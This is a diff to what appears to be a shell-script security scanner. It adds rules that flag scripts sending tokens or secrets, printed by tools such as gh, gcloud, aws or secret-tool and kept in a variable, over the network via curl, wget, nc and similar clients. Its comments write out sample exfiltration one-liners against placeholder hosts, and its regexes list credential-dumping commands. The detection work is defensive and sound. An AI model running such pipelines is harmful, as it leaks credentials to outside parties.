@@ -399,6 +399,35 @@
  (#set! severity "high")
  (#set! message "sends a token or secret that a tool prints (gh auth token, gcloud auth print-access-token, gpg --export-secret-keys, kubectl get secrets) over the network"))
 
+; tok=$(gh auth token); curl -d "t=$tok" u, k=$(gcloud auth
+; print-access-token); p="{\"k\":\"$k\"}"; wget --post-data "$p" u,
+; s=$(secret-tool lookup ...); nc h p <<< "$s", c=$(aws configure
+; export-credentials); jq -n --arg c "$c" ... | curl --data @- u: the token
+; kept in a variable (or two), then sent as data or piped into a network
+; client (in a header, curl -H "Authorization: Bearer $tok", it is used as
+; a token is, and is not reported)
+((command argument: (word) @flag . argument: (_) @data) @n @finding
+ (#match? @flag "^(-d|--data(-[a-z]+)?|-F|--form|-T|--upload-file|--post-data|--body-data)$")
+ (#resolves-to? @n "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|scp|sftp|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks")
+ (#bound-text-match? @data "(?<![\\w.-])(gh\\s+auth\\s+token|gcloud\\s+auth\\s+(application-default\\s+)?print-(access|identity)-token|aws\\s+(configure\\s+(export-credentials|get\\s+\\S*(secret|token|key))|sts\\s+get-session-token)|az\\s+account\\s+get-access-token|kubectl\\s+config\\s+view\\s+(.*\\s)?--raw|docker-credential-\\S+\\s+get|vault\\s+print\\s+token|op\\s+read|secret-tool\\s+lookup|pass\\s+show|heroku\\s+auth:token|gpg2?\\s+(.*\\s)?--export-secret-(sub)?keys|kubectl\\s+(.*\\s)?get\\s+secrets?|aws\\s+secretsmanager\\s+get-secret-value|aws\\s+ssm\\s+get-parameters?\\s+(.*\\s)?--with-decryption|gcloud\\s+secrets\\s+versions\\s+access|az\\s+keyvault\\s+secret\\s+show|vault\\s+(kv\\s+)?(get|read)|keyctl\\s+(print|pipe|read))(?![\\w.:-])")
+ (#set! id "sh-credentials")
+ (#set! severity "high")
+ (#set! message "sends a token or secret that a tool printed, kept in a variable, over the network (gh auth token, gcloud auth print-access-token, secret-tool lookup)"))
+
+((command redirect: (herestring_redirect) @data) @n @finding
+ (#resolves-to? @n "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|scp|sftp|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks")
+ (#bound-text-match? @data "(?<![\\w.-])(gh\\s+auth\\s+token|gcloud\\s+auth\\s+(application-default\\s+)?print-(access|identity)-token|aws\\s+(configure\\s+(export-credentials|get\\s+\\S*(secret|token|key))|sts\\s+get-session-token)|az\\s+account\\s+get-access-token|kubectl\\s+config\\s+view\\s+(.*\\s)?--raw|docker-credential-\\S+\\s+get|vault\\s+print\\s+token|op\\s+read|secret-tool\\s+lookup|pass\\s+show|heroku\\s+auth:token|gpg2?\\s+(.*\\s)?--export-secret-(sub)?keys|kubectl\\s+(.*\\s)?get\\s+secrets?|aws\\s+secretsmanager\\s+get-secret-value|aws\\s+ssm\\s+get-parameters?\\s+(.*\\s)?--with-decryption|gcloud\\s+secrets\\s+versions\\s+access|az\\s+keyvault\\s+secret\\s+show|vault\\s+(kv\\s+)?(get|read)|keyctl\\s+(print|pipe|read))(?![\\w.:-])")
+ (#set! id "sh-credentials")
+ (#set! severity "high")
+ (#set! message "sends a token or secret that a tool printed, kept in a variable, over the network (gh auth token, gcloud auth print-access-token, secret-tool lookup)"))
+
+((pipeline (_) @src (_) @sink) @finding
+ (#contains-call? @sink "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|scp|sftp|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks")
+ (#bound-text-match? @src "(?<![\\w.-])(gh\\s+auth\\s+token|gcloud\\s+auth\\s+(application-default\\s+)?print-(access|identity)-token|aws\\s+(configure\\s+(export-credentials|get\\s+\\S*(secret|token|key))|sts\\s+get-session-token)|az\\s+account\\s+get-access-token|kubectl\\s+config\\s+view\\s+(.*\\s)?--raw|docker-credential-\\S+\\s+get|vault\\s+print\\s+token|op\\s+read|secret-tool\\s+lookup|pass\\s+show|heroku\\s+auth:token|gpg2?\\s+(.*\\s)?--export-secret-(sub)?keys|kubectl\\s+(.*\\s)?get\\s+secrets?|aws\\s+secretsmanager\\s+get-secret-value|aws\\s+ssm\\s+get-parameters?\\s+(.*\\s)?--with-decryption|gcloud\\s+secrets\\s+versions\\s+access|az\\s+keyvault\\s+secret\\s+show|vault\\s+(kv\\s+)?(get|read)|keyctl\\s+(print|pipe|read))(?![\\w.:-])")
+ (#set! id "sh-credentials")
+ (#set! severity "high")
+ (#set! message "sends a token or secret that a tool printed, kept in a variable, over the network (gh auth token, gcloud auth print-access-token, secret-tool lookup)"))
+
 ; A project's .env: a script that sources it (set -a; . ./.env) or names
 ; it in a message configures itself; one that gives it to a network client
 ; (curl -F f=@.env, nc h < .env, cat .env | curl -d @- u, curl -d "$(cat
